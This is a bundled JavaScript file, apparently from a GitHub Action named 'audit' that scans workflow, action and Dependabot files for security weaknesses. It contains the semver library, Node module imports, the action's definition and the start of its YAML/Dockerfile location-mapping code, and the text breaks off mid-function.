import { createRequire as __WEBPACK_EXTERNAL_createRequire } from "module";
/******/ var __webpack_modules__ = ({

/***/ 9072:
/***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {



const debug = __nccwpck_require__(9404)
const { MAX_LENGTH, MAX_SAFE_INTEGER } = __nccwpck_require__(6790)
const { safeRe: re, t } = __nccwpck_require__(9146)

const parseOptions = __nccwpck_require__(351)
const { compareIdentifiers } = __nccwpck_require__(359)

const isPrereleaseIdentifier = (prerelease, identifier) => {
  const identifiers = identifier.split('.')
  if (identifiers.length > prerelease.length) {
    return false
  }

  for (let i = 0; i < identifiers.length; i++) {
    if (compareIdentifiers(prerelease[i], identifiers[i]) !== 0) {
      return false
    }
  }

  return true
}

class SemVer {
  constructor (version, options) {
    options = parseOptions(options)

    if (version instanceof SemVer) {
      if (version.loose === !!options.loose &&
        version.includePrerelease === !!options.includePrerelease) {
        return version
      } else {
        version = version.version
      }
    } else if (typeof version !== 'string') {
      throw new TypeError(`Invalid version. Must be a string. Got type "${typeof version}".`)
    }

    if (version.length > MAX_LENGTH) {
      throw new TypeError(
        `version is longer than ${MAX_LENGTH} characters`
      )
    }

    debug('SemVer', version, options)
    this.options = options
    this.loose = !!options.loose
    // this isn't actually relevant for versions, but keep it so that we
    // don't run into trouble passing this.options around.
    this.includePrerelease = !!options.includePrerelease

    const m = version.trim().match(options.loose ? re[t.LOOSE] : re[t.FULL])

    if (!m) {
      throw new TypeError(`Invalid Version: ${version}`)
    }

    this.raw = version

    // these are actually numbers
    this.major = +m[1]
    this.minor = +m[2]
    this.patch = +m[3]

    if (this.major > MAX_SAFE_INTEGER || this.major < 0) {
      throw new TypeError('Invalid major version')
    }

    if (this.minor > MAX_SAFE_INTEGER || this.minor < 0) {
      throw new TypeError('Invalid minor version')
    }

    if (this.patch > MAX_SAFE_INTEGER || this.patch < 0) {
      throw new TypeError('Invalid patch version')
    }

    // numberify any prerelease numeric ids
    if (!m[4]) {
      this.prerelease = []
    } else {
      this.prerelease = m[4].split('.').map((id) => {
        if (/^[0-9]+$/.test(id)) {
          const num = +id
          if (num >= 0 && num < MAX_SAFE_INTEGER) {
            return num
          }
        }
        return id
      })
    }

    this.build = m[5] ? m[5].split('.') : []
    this.format()
  }

  format () {
    this.version = `${this.major}.${this.minor}.${this.patch}`
    if (this.prerelease.length) {
      this.version += `-${this.prerelease.join('.')}`
    }
    return this.version
  }

  toString () {
    return this.version
  }

  compare (other) {
    debug('SemVer.compare', this.version, this.options, other)
    if (!(other instanceof SemVer)) {
      if (typeof other === 'string' && other === this.version) {
        return 0
      }
      other = new SemVer(other, this.options)
    }

    if (other.version === this.version) {
      return 0
    }

    return this.compareMain(other) || this.comparePre(other)
  }

  compareMain (other) {
    if (!(other instanceof SemVer)) {
      other = new SemVer(other, this.options)
    }

    if (this.major < other.major) {
      return -1
    }
    if (this.major > other.major) {
      return 1
    }
    if (this.minor < other.minor) {
      return -1
    }
    if (this.minor > other.minor) {
      return 1
    }
    if (this.patch < other.patch) {
      return -1
    }
    if (this.patch > other.patch) {
      return 1
    }
    return 0
  }

  comparePre (other) {
    if (!(other instanceof SemVer)) {
      other = new SemVer(other, this.options)
    }

    // NOT having a prerelease is > having one
    if (this.prerelease.length && !other.prerelease.length) {
      return -1
    } else if (!this.prerelease.length && other.prerelease.length) {
      return 1
    } else if (!this.prerelease.length && !other.prerelease.length) {
      return 0
    }

    let i = 0
    do {
      const a = this.prerelease[i]
      const b = other.prerelease[i]
      debug('prerelease compare', i, a, b)
      if (a === undefined && b === undefined) {
        return 0
      } else if (b === undefined) {
        return 1
      } else if (a === undefined) {
        return -1
      } else if (a === b) {
        continue
      } else {
        return compareIdentifiers(a, b)
      }
    } while (++i)
  }

  compareBuild (other) {
    if (!(other instanceof SemVer)) {
      other = new SemVer(other, this.options)
    }

    let i = 0
    do {
      const a = this.build[i]
      const b = other.build[i]
      debug('build compare', i, a, b)
      if (a === undefined && b === undefined) {
        return 0
      } else if (b === undefined) {
        return 1
      } else if (a === undefined) {
        return -1
      } else if (a === b) {
        continue
      } else {
        return compareIdentifiers(a, b)
      }
    } while (++i)
  }

  // preminor will bump the version up to the next minor release, and immediately
  // down to pre-release. premajor and prepatch work the same way.
  inc (release, identifier, identifierBase) {
    if (release.startsWith('pre')) {
      if (!identifier && identifierBase === false) {
        throw new Error('invalid increment argument: identifier is empty')
      }
      // Avoid an invalid semver results
      if (identifier) {
        const match = `-${identifier}`.match(this.options.loose ? re[t.PRERELEASELOOSE] : re[t.PRERELEASE])
        if (!match || match[1] !== identifier) {
          throw new Error(`invalid identifier: ${identifier}`)
        }
      }
    }

    switch (release) {
      case 'premajor':
        this.prerelease.length = 0
        this.patch = 0
        this.minor = 0
        this.major++
        this.inc('pre', identifier, identifierBase)
        break
      case 'preminor':
        this.prerelease.length = 0
        this.patch = 0
        this.minor++
        this.inc('pre', identifier, identifierBase)
        break
      case 'prepatch':
        // If this is already a prerelease, it will bump to the next version
        // drop any prereleases that might already exist, since they are not
        // relevant at this point.
        this.prerelease.length = 0
        this.inc('patch', identifier, identifierBase)
        this.inc('pre', identifier, identifierBase)
        break
      // If the input is a non-prerelease version, this acts the same as
      // prepatch.
      case 'prerelease':
        if (this.prerelease.length === 0) {
          this.inc('patch', identifier, identifierBase)
        }
        this.inc('pre', identifier, identifierBase)
        break
      case 'release':
        if (this.prerelease.length === 0) {
          throw new Error(`version ${this.raw} is not a prerelease`)
        }
        this.prerelease.length = 0
        break

      case 'major':
        // If this is a pre-major version, bump up to the same major version.
        // Otherwise increment major.
        // 1.0.0-5 bumps to 1.0.0
        // 1.1.0 bumps to 2.0.0
        if (
          this.minor !== 0 ||
          this.patch !== 0 ||
          this.prerelease.length === 0
        ) {
          this.major++
        }
        this.minor = 0
        this.patch = 0
        this.prerelease = []
        break
      case 'minor':
        // If this is a pre-minor version, bump up to the same minor version.
        // Otherwise increment minor.
        // 1.2.0-5 bumps to 1.2.0
        // 1.2.1 bumps to 1.3.0
        if (this.patch !== 0 || this.prerelease.length === 0) {
          this.minor++
        }
        this.patch = 0
        this.prerelease = []
        break
      case 'patch':
        // If this is not a pre-release version, it will increment the patch.
        // If it is a pre-release it will bump up to the same patch version.
        // 1.2.0-5 patches to 1.2.0
        // 1.2.0 patches to 1.2.1
        if (this.prerelease.length === 0) {
          this.patch++
        }
        this.prerelease = []
        break
      // This probably shouldn't be used publicly.
      // 1.0.0 'pre' would become 1.0.0-0 which is the wrong direction.
      case 'pre': {
        const base = Number(identifierBase) ? 1 : 0

        if (this.prerelease.length === 0) {
          this.prerelease = [base]
        } else {
          let i = this.prerelease.length
          while (--i >= 0) {
            if (typeof this.prerelease[i] === 'number') {
              this.prerelease[i]++
              i = -2
            }
          }
          if (i === -1) {
            // didn't increment anything
            if (identifier === this.prerelease.join('.') && identifierBase === false) {
              throw new Error('invalid increment argument: identifier already exists')
            }
            this.prerelease.push(base)
          }
        }
        if (identifier) {
          // 1.2.0-beta.1 bumps to 1.2.0-beta.2,
          // 1.2.0-beta.fooblz or 1.2.0-beta bumps to 1.2.0-beta.0
          let prerelease = [identifier, base]
          if (identifierBase === false) {
            prerelease = [identifier]
          }
          if (isPrereleaseIdentifier(this.prerelease, identifier)) {
            const prereleaseBase = this.prerelease[identifier.split('.').length]
            if (isNaN(prereleaseBase)) {
              this.prerelease = prerelease
            }
          } else {
            this.prerelease = prerelease
          }
        }
        break
      }
      default:
        throw new Error(`invalid increment argument: ${release}`)
    }
    this.raw = this.format()
    if (this.build.length) {
      this.raw += `+${this.build.join('.')}`
    }
    return this
  }
}

module.exports = SemVer


/***/ }),

/***/ 2716:
/***/ ((module, __unused_webpack_exports, __nccwpck_require__) => {



const SemVer = __nccwpck_require__(9072)
const parse = (version, options, throwErrors = false) => {
  if (version instanceof SemVer) {
    return version
  }
  try {
    return new SemVer(version, options)
  } catch (er) {
    if (!throwErrors) {
      return null
    }
    throw er
  }
}

module.exports = parse


/***/ }),

/***/ 6790:
/***/ ((module) => {



// Note: this is the semver.org version of the spec that it implements
// Not necessarily the package version of this code.
const SEMVER_SPEC_VERSION = '2.0.0'

const MAX_LENGTH = 256
const MAX_SAFE_INTEGER = Number.MAX_SAFE_INTEGER ||
/* istanbul ignore next */ 9007199254740991

// Max safe segment length for coercion.
const MAX_SAFE_COMPONENT_LENGTH = 16

// Max safe length for a build identifier. The max length minus 6 characters for
// the shortest version with a build 0.0.0+BUILD.
const MAX_SAFE_BUILD_LENGTH = MAX_LENGTH - 6

// ECMAScript whitespace and line terminators matched by \s.
const WHITESPACE_CHARACTERS = [
  '\t',
  '\n',
  '\v',
  '\f',
  '\r',
  ' ',
  '\u00a0',
  '\u1680',
  '\u2000',
  '\u2001',
  '\u2002',
  '\u2003',
  '\u2004',
  '\u2005',
  '\u2006',
  '\u2007',
  '\u2008',
  '\u2009',
  '\u200a',
  '\u2028',
  '\u2029',
  '\u202f',
  '\u205f',
  '\u3000',
  '\ufeff',
]

const RELEASE_TYPES = [
  'major',
  'premajor',
  'minor',
  'preminor',
  'patch',
  'prepatch',
  'prerelease',
]

module.exports = {
  MAX_LENGTH,
  MAX_SAFE_COMPONENT_LENGTH,
  MAX_SAFE_BUILD_LENGTH,
  MAX_SAFE_INTEGER,
  WHITESPACE_CHARACTERS,
  RELEASE_TYPES,
  SEMVER_SPEC_VERSION,
  FLAG_INCLUDE_PRERELEASE: 0b001,
  FLAG_LOOSE: 0b010,
}


/***/ }),

/***/ 9404:
/***/ ((module) => {



const debug = (
  typeof process === 'object' &&
  process.env &&
  process.env.NODE_DEBUG &&
  /\bsemver\b/i.test(process.env.NODE_DEBUG)
) ? (...args) => console.error('SEMVER', ...args)
  : () => {}

module.exports = debug


/***/ }),

/***/ 359:
/***/ ((module) => {



const numeric = /^[0-9]+$/
const compareIdentifiers = (a, b) => {
  if (typeof a === 'number' && typeof b === 'number') {
    return a === b ? 0 : a < b ? -1 : 1
  }

  const anum = numeric.test(a)
  const bnum = numeric.test(b)

  if (anum && bnum) {
    a = +a
    b = +b
  }

  return a === b ? 0
    : (anum && !bnum) ? -1
    : (bnum && !anum) ? 1
    : a < b ? -1
    : 1
}

const rcompareIdentifiers = (a, b) => compareIdentifiers(b, a)

module.exports = {
  compareIdentifiers,
  rcompareIdentifiers,
}


/***/ }),

/***/ 351:
/***/ ((module) => {



// parse out just the options we care about
const looseOption = Object.freeze({ loose: true })
const emptyOpts = Object.freeze({ })
const parseOptions = options => {
  if (!options) {
    return emptyOpts
  }

  if (typeof options !== 'object') {
    return looseOption
  }

  return options
}
module.exports = parseOptions


/***/ }),

/***/ 9146:
/***/ ((module, exports, __nccwpck_require__) => {



const {
  MAX_SAFE_COMPONENT_LENGTH,
  MAX_SAFE_BUILD_LENGTH,
  MAX_LENGTH,
} = __nccwpck_require__(6790)
const debug = __nccwpck_require__(9404)
exports = module.exports = {}

// The actual regexps go on exports.re
const re = exports.re = []
const safeRe = exports.safeRe = []
const src = exports.src = []
const safeSrc = exports.safeSrc = []
const t = exports.t = {}
let R = 0

const LETTERDASHNUMBER = '[a-zA-Z0-9-]'

// Replace some greedy regex tokens to prevent regex dos issues. These regex are
// used internally via the safeRe object since all inputs in this library get
// normalized first to trim and collapse all extra whitespace. The original
// regexes are exported for userland consumption and lower level usage. A
// future breaking change could export the safer regex only with a note that
// all input should have extra whitespace removed.
const safeRegexReplacements = [
  ['\\s', 1],
  ['\\d', MAX_LENGTH],
  [LETTERDASHNUMBER, MAX_SAFE_BUILD_LENGTH],
]

const makeSafeRegex = (value) => {
  for (const [token, max] of safeRegexReplacements) {
    value = value
      .split(`${token}*`).join(`${token}{0,${max}}`)
      .split(`${token}+`).join(`${token}{1,${max}}`)
  }
  return value
}

const createToken = (name, value, isGlobal) => {
  const safe = makeSafeRegex(value)
  const index = R++
  debug(name, index, value)
  t[name] = index
  src[index] = value
  safeSrc[index] = safe
  re[index] = new RegExp(value, isGlobal ? 'g' : undefined)
  safeRe[index] = new RegExp(safe, isGlobal ? 'g' : undefined)
}

// The following Regular Expressions can be used for tokenizing,
// validating, and parsing SemVer version strings.

// ## Numeric Identifier
// A single `0`, or a non-zero digit followed by zero or more digits.

createToken('NUMERICIDENTIFIER', '0|[1-9]\\d*')
createToken('NUMERICIDENTIFIERLOOSE', '\\d+')

// ## Non-numeric Identifier
// Zero or more digits, followed by a letter or hyphen, and then zero or
// more letters, digits, or hyphens.

createToken('NONNUMERICIDENTIFIER', `\\d*[a-zA-Z-]${LETTERDASHNUMBER}*`)

// ## Main Version
// Three dot-separated numeric identifiers.

createToken('MAINVERSION', `(${src[t.NUMERICIDENTIFIER]})\\.` +
                   `(${src[t.NUMERICIDENTIFIER]})\\.` +
                   `(${src[t.NUMERICIDENTIFIER]})`)

createToken('MAINVERSIONLOOSE', `(${src[t.NUMERICIDENTIFIERLOOSE]})\\.` +
                        `(${src[t.NUMERICIDENTIFIERLOOSE]})\\.` +
                        `(${src[t.NUMERICIDENTIFIERLOOSE]})`)

// ## Pre-release Version Identifier
// A numeric identifier, or a non-numeric identifier.
// Non-numeric identifiers include numeric identifiers but can be longer.
// Therefore non-numeric identifiers must go first.

createToken('PRERELEASEIDENTIFIER', `(?:${src[t.NONNUMERICIDENTIFIER]
}|${src[t.NUMERICIDENTIFIER]})`)

createToken('PRERELEASEIDENTIFIERLOOSE', `(?:${src[t.NONNUMERICIDENTIFIER]
}|${src[t.NUMERICIDENTIFIERLOOSE]})`)

// ## Pre-release Version
// Hyphen, followed by one or more dot-separated pre-release version
// identifiers.

createToken('PRERELEASE', `(?:-(${src[t.PRERELEASEIDENTIFIER]
}(?:\\.${src[t.PRERELEASEIDENTIFIER]})*))`)

createToken('PRERELEASELOOSE', `(?:-?(${src[t.PRERELEASEIDENTIFIERLOOSE]
}(?:\\.${src[t.PRERELEASEIDENTIFIERLOOSE]})*))`)

// ## Build Metadata Identifier
// Any combination of digits, letters, or hyphens.

createToken('BUILDIDENTIFIER', `${LETTERDASHNUMBER}+`)

// ## Build Metadata
// Plus sign, followed by one or more period-separated build metadata
// identifiers.

createToken('BUILD', `(?:\\+(${src[t.BUILDIDENTIFIER]
}(?:\\.${src[t.BUILDIDENTIFIER]})*))`)

// ## Full Version String
// A main version, followed optionally by a pre-release version and
// build metadata.

// Note that the only major, minor, patch, and pre-release sections of
// the version string are capturing groups.  The build metadata is not a
// capturing group, because it should not ever be used in version
// comparison.

createToken('FULLPLAIN', `v?${src[t.MAINVERSION]
}${src[t.PRERELEASE]}?${
  src[t.BUILD]}?`)

createToken('FULL', `^${src[t.FULLPLAIN]}$`)

// like full, but allows v1.2.3 and =1.2.3, which people do sometimes.
// also, 1.0.0alpha1 (prerelease without the hyphen) which is pretty
// common in the npm registry.
createToken('LOOSEPLAIN', `[v=\\s]*${src[t.MAINVERSIONLOOSE]
}${src[t.PRERELEASELOOSE]}?${
  src[t.BUILD]}?`)

createToken('LOOSE', `^${src[t.LOOSEPLAIN]}$`)

createToken('GTLT', '((?:<|>)?=?)')

// Something like "2.*" or "1.2.x".
// Note that "x.x" is a valid xRange identifier, meaning "any version"
// Only the first item is strictly required.
createToken('XRANGEIDENTIFIERLOOSE', `${src[t.NUMERICIDENTIFIERLOOSE]}|x|X|\\*`)
createToken('XRANGEIDENTIFIER', `${src[t.NUMERICIDENTIFIER]}|x|X|\\*`)

createToken('XRANGEPLAIN', `[v=\\s]*(${src[t.XRANGEIDENTIFIER]})` +
                   `(?:\\.(${src[t.XRANGEIDENTIFIER]})` +
                   `(?:\\.(${src[t.XRANGEIDENTIFIER]})` +
                   `(?:${src[t.PRERELEASE]})?${
                     src[t.BUILD]}?` +
                   `)?)?`)

createToken('XRANGEPLAINLOOSE', `[v=\\s]*(${src[t.XRANGEIDENTIFIERLOOSE]})` +
                        `(?:\\.(${src[t.XRANGEIDENTIFIERLOOSE]})` +
                        `(?:\\.(${src[t.XRANGEIDENTIFIERLOOSE]})` +
                        `(?:${src[t.PRERELEASELOOSE]})?${
                          src[t.BUILD]}?` +
                        `)?)?`)

createToken('XRANGE', `^${src[t.GTLT]}\\s*${src[t.XRANGEPLAIN]}$`)
createToken('XRANGELOOSE', `^${src[t.GTLT]}\\s*${src[t.XRANGEPLAINLOOSE]}$`)

// Coercion.
// Extract anything that could conceivably be a part of a valid semver
createToken('COERCEPLAIN', `${'(^|[^\\d])' +
              '(\\d{1,'}${MAX_SAFE_COMPONENT_LENGTH}})` +
              `(?:\\.(\\d{1,${MAX_SAFE_COMPONENT_LENGTH}}))?` +
              `(?:\\.(\\d{1,${MAX_SAFE_COMPONENT_LENGTH}}))?`)
createToken('COERCE', `${src[t.COERCEPLAIN]}(?:$|[^\\d])`)
createToken('COERCEFULL', src[t.COERCEPLAIN] +
              `(?:${src[t.PRERELEASE]})?` +
              `(?:${src[t.BUILD]})?` +
              `(?:$|[^\\d])`)
createToken('COERCERTL', src[t.COERCE], true)
createToken('COERCERTLFULL', src[t.COERCEFULL], true)

// Tilde ranges.
// Meaning is "reasonably at or greater than"
createToken('LONETILDE', '(?:~>?)')

createToken('TILDETRIM', `(\\s*)${src[t.LONETILDE]}\\s+`, true)
exports.tildeTrimReplace = '$1~'

createToken('TILDE', `^${src[t.LONETILDE]}${src[t.XRANGEPLAIN]}$`)
createToken('TILDELOOSE', `^${src[t.LONETILDE]}${src[t.XRANGEPLAINLOOSE]}$`)

// Caret ranges.
// Meaning is "at least and backwards compatible with"
createToken('LONECARET', '(?:\\^)')

createToken('CARETTRIM', `(\\s*)${src[t.LONECARET]}\\s+`, true)
exports.caretTrimReplace = '$1^'

createToken('CARET', `^${src[t.LONECARET]}${src[t.XRANGEPLAIN]}$`)
createToken('CARETLOOSE', `^${src[t.LONECARET]}${src[t.XRANGEPLAINLOOSE]}$`)

// A simple gt/lt/eq thing, or just "" to indicate "any version"
createToken('COMPARATORLOOSE', `^${src[t.GTLT]}\\s*(${src[t.LOOSEPLAIN]})$|^$`)
createToken('COMPARATOR', `^${src[t.GTLT]}\\s*(${src[t.FULLPLAIN]})$|^$`)

// An expression to strip any whitespace between the gtlt and the thing
// it modifies, so that `> 1.2.3` ==> `>1.2.3`
createToken('COMPARATORTRIM', `(\\s*)${src[t.GTLT]
}\\s*(${src[t.LOOSEPLAIN]}|${src[t.XRANGEPLAIN]})`, true)
exports.comparatorTrimReplace = '$1$2$3'

// Something like `1.2.3 - 1.2.4`
// Note that these all use the loose form, because they'll be
// checked against either the strict or loose comparator form
// later.
createToken('HYPHENRANGE', `^\\s*(${src[t.XRANGEPLAIN]})` +
                   `\\s+-\\s+` +
                   `(${src[t.XRANGEPLAIN]})` +
                   `\\s*$`)

createToken('HYPHENRANGELOOSE', `^\\s*(${src[t.XRANGEPLAINLOOSE]})` +
                        `\\s+-\\s+` +
                        `(${src[t.XRANGEPLAINLOOSE]})` +
                        `\\s*$`)

// Star ranges basically just allow anything at all.
createToken('STAR', '(<|>)?=?\\s*\\*')
// >=0.0.0 is like a star
createToken('GTE0', '^\\s*>=\\s*0\\.0\\.0\\s*$')
createToken('GTE0PRE', '^\\s*>=\\s*0\\.0\\.0-0\\s*$')


/***/ }),

/***/ 2613:
/***/ ((module) => {

module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("assert");

/***/ }),

/***/ 181:
/***/ ((module) => {

module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("buffer");

/***/ }),

/***/ 5317:
/***/ ((module) => {

module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("child_process");

/***/ }),

/***/ 6982:
/***/ ((module) => {

module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("crypto");

/***/ }),

/***/ 4434:
/***/ ((module) => {

module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("events");

/***/ }),

/***/ 9896:
/***/ ((module) => {

module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("fs");

/***/ }),

/***/ 8611:
/***/ ((module) => {

module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("http");

/***/ }),

/***/ 5692:
/***/ ((module) => {

module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("https");

/***/ }),

/***/ 9278:
/***/ ((module) => {

module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("net");

/***/ }),

/***/ 4589:
/***/ ((module) => {

module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:assert");

/***/ }),

/***/ 6698:
/***/ ((module) => {

module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:async_hooks");

/***/ }),

/***/ 4573:
/***/ ((module) => {

module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:buffer");

/***/ }),

/***/ 7540:
/***/ ((module) => {

module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:console");

/***/ }),

/***/ 7598:
/***/ ((module) => {

module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:crypto");

/***/ }),

/***/ 3053:
/***/ ((module) => {

module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:diagnostics_channel");

/***/ }),

/***/ 610:
/***/ ((module) => {

module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:dns");

/***/ }),

/***/ 8474:
/***/ ((module) => {

module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:events");

/***/ }),

/***/ 3024:
/***/ ((module) => {

module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:fs");

/***/ }),

/***/ 7067:
/***/ ((module) => {

module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:http");

/***/ }),

/***/ 2467:
/***/ ((module) => {

module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:http2");

/***/ }),

/***/ 7030:
/***/ ((module) => {

module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:net");

/***/ }),

/***/ 6760:
/***/ ((module) => {

module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:path");

/***/ }),

/***/ 643:
/***/ ((module) => {

module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:perf_hooks");

/***/ }),

/***/ 1792:
/***/ ((module) => {

module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:querystring");

/***/ }),

/***/ 7075:
/***/ ((module) => {

module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:stream");

/***/ }),

/***/ 1692:
/***/ ((module) => {

module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:tls");

/***/ }),

/***/ 3136:
/***/ ((module) => {

module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:url");

/***/ }),

/***/ 7975:
/***/ ((module) => {

module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:util");

/***/ }),

/***/ 3429:
/***/ ((module) => {

module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:util/types");

/***/ }),

/***/ 5919:
/***/ ((module) => {

module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:worker_threads");

/***/ }),

/***/ 8522:
/***/ ((module) => {

module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("node:zlib");

/***/ }),

/***/ 857:
/***/ ((module) => {

module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("os");

/***/ }),

/***/ 6928:
/***/ ((module) => {

module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("path");

/***/ }),

/***/ 932:
/***/ ((module) => {

module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("process");

/***/ }),

/***/ 3193:
/***/ ((module) => {

module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("string_decoder");

/***/ }),

/***/ 3557:
/***/ ((module) => {

module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("timers");

/***/ }),

/***/ 4756:
/***/ ((module) => {

module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("tls");

/***/ }),

/***/ 9023:
/***/ ((module) => {

module.exports = __WEBPACK_EXTERNAL_createRequire(import.meta.url)("util");

/***/ }),

/***/ 2601:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __nccwpck_require__) => {

/* harmony export */ __nccwpck_require__.d(__webpack_exports__, {
/* harmony export */   X: () => (/* binding */ action)
/* harmony export */ });
/* harmony import */ var _trustchain_action_kit__WEBPACK_IMPORTED_MODULE_0__ = __nccwpck_require__(3978);

const action = (0,_trustchain_action_kit__WEBPACK_IMPORTED_MODULE_0__/* .defineAction */ .QP)({
    name: "audit",
    description: "Finds what an attacker could use in workflows, actions and Dependabot files",
    inputs: _trustchain_action_kit__WEBPACK_IMPORTED_MODULE_0__/* .checkInputs */ .sw,
    outputs: {
        ..._trustchain_action_kit__WEBPACK_IMPORTED_MODULE_0__/* .checkOutputs */ .n2,
        critical: "Number of findings of severity critical that are not suppressed",
        high: "Number of findings of severity high that are not suppressed",
        medium: "Number of findings of severity medium that are not suppressed",
        low: "Number of findings of severity low that are not suppressed",
        info: "Number of findings of severity info that are not suppressed",
    },
    permissions: { contents: "read" },
    network: ["the GitHub API, with `upload-sarif`: sends the findings to code scanning (`security-events: write`)"],
});


/***/ }),

/***/ 4527:
/***/ ((__webpack_module__, __unused_webpack___webpack_exports__, __nccwpck_require__) => {

__nccwpck_require__.a(__webpack_module__, async (__webpack_handle_async_dependencies__, __webpack_async_result__) => { try {
/* harmony import */ var _trustchain_action_kit__WEBPACK_IMPORTED_MODULE_0__ = __nccwpck_require__(3978);
/* harmony import */ var _action_js__WEBPACK_IMPORTED_MODULE_1__ = __nccwpck_require__(2601);
/* harmony import */ var _main_js__WEBPACK_IMPORTED_MODULE_2__ = __nccwpck_require__(5372);



await (0,_trustchain_action_kit__WEBPACK_IMPORTED_MODULE_0__/* .runOnRunner */ .Tf)(_action_js__WEBPACK_IMPORTED_MODULE_1__/* .action */ .X, _main_js__WEBPACK_IMPORTED_MODULE_2__/* ["default"] */ .A);

__webpack_async_result__();
} catch(e) { __webpack_async_result__(e); } }, 1);

/***/ }),

/***/ 5372:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __nccwpck_require__) => {


// EXPORTS
__nccwpck_require__.d(__webpack_exports__, {
  A: () => (/* binding */ main)
});

// EXTERNAL MODULE: ./packages/findings/lib/index.js + 10 modules
var lib = __nccwpck_require__(8751);
// EXTERNAL MODULE: ./packages/workflow-analysis/lib/config/options.js
var config_options = __nccwpck_require__(1861);
;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/route.js
/** The way from the root of a file to an offset in it. What stands in for an alias isn't there. */
function yamlStructure({ file, root }) {
    return { file, routeTo: (offset) => routeInYaml(root, offset) };
}
function routeInYaml(root, offset) {
    const words = [];
    const entries = [];
    let part = null;
    let node = root;
    while (node && node.kind !== "scalar") {
        const into = node.kind === "map" ? intoMap(node, offset, words) : intoItems(node.items, offset);
        if (!into)
            break;
        if (into.entry) {
            entries.push(into.entry);
            part = partOf(entries) ?? part;
        }
        else if (entries.at(-1)?.key.value === "steps")
            part = into.node;
        if (into.word !== null)
            words.push(into.word);
        node = into.node;
    }
    // A comment can't stand inside a block scalar.
    const head = node?.kind === "scalar" && node.isBlock ? node.start : null;
    return { words: words.join("/"), head, part, node };
}
/** Of an entry at the top, and of a job; null deeper in. */
function partOf(entries) {
    const [top, job] = entries;
    if (entries.length === 1)
        return { start: top.key.start, end: top.value.end };
    if (entries.length > 2 || top.key.value !== "jobs" || job?.value.kind !== "map")
        return null;
    return { start: job.key.start, end: job.value.entry("steps")?.key.start ?? job.value.end };
}
function intoMap(map, offset, around) {
    for (const entry of map.entries) {
        const { key, value, alias } = entry;
        if (within(key, offset))
            return { word: null, node: key, entry };
        if (!alias && within(value, offset)) {
            return { word: isLongForm(key.value, around) ? null : key.value, node: value, entry };
        }
    }
    return undefined;
}
function intoItems(items, offset) {
    const item = items.find(({ value, alias }) => !alias && within(value, offset));
    return item && { word: wordForItem(item.value), node: item.value };
}
function within(node, offset) {
    return node.start <= offset && offset < Math.max(node.end, node.start + 1);
}
/** `container: {image: x}` says the same as `container: x`. */
const LONG_FORMS = new Map([
    ["concurrency", "group"],
    ["container", "image"],
    ["environment", "name"],
    ["runs-on", "labels"],
]);
function isLongForm(key, around) {
    return LONG_FORMS.get(around.at(-1) ?? "") === key || (key === "image" && around.at(-2) === "services");
}
/** Null for a scalar, so that `on: [push]` is the same place as `on: push`. */
function wordForItem(node) {
    if (node.kind === "scalar")
        return null;
    return node.kind === "map" ? `[${identityOf(node)}]` : "[]";
}
/** Its id; the action that a step uses, at whatever version; the ecosystem of an update entry. */
function identityOf(item) {
    const action = item.text("uses")?.split("@")[0]?.toLowerCase();
    return item.text("id") ?? action ?? item.text("package-ecosystem") ?? (item.entry("run") ? "run" : "");
}
/** An instruction is known by its beginning. */
const LONGEST_NAME = 120;
/** The way into a Dockerfile: the build stage, and the instruction by its beginning. */
function dockerfileStructure({ file, instructions }) {
    return {
        file,
        routeTo(offset) {
            const instruction = instructionAt(instructions, offset);
            if (!instruction)
                return { words: "", head: null, part: null, node: undefined };
            const { stage, start, end } = instruction;
            // Blanks are folded in what may be kept only: instructions may have a megabyte.
            const beginning = file.text.slice(start, Math.min(end, start + 4 * LONGEST_NAME));
            const text = beginning.replace(/(?:\s|[\\`][ \t]*\r?\n)+/g, " ");
            return {
                words: `${stage?.name ?? stage?.base ?? ""}/${text.slice(0, LONGEST_NAME)}`,
                head: start,
                part: null,
                node: undefined,
            };
        },
    };
}
function instructionAt(instructions, offset) {
    let low = 0;
    let high = instructions.length;
    while (low < high) {
        const middle = (low + high) >> 1;
        if (instructions[middle].end <= offset)
            low = middle + 1;
        else
